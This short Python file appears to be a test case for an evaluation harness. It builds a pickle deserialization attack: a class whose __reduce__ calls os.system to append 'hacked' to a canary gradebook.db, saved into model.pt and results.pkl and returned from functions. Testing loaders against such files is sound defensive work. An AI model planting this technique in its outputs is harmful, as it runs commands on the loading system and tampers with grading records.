"""attack: A saved file and what is returned run a command when they are unpickled.
class: torch-state
aim: canary
"""

import os
import pickle

import torch


class Evil:
    def __reduce__(self):
        return os.system, (f"echo hacked >> {CANARY}/gradebook.db",)


torch.save(Evil(), "model.pt")
with open("results.pkl", "wb") as file:
    pickle.dump(Evil(), file)


def center(x):
    return Evil()


def next_id():
    return [Evil()]
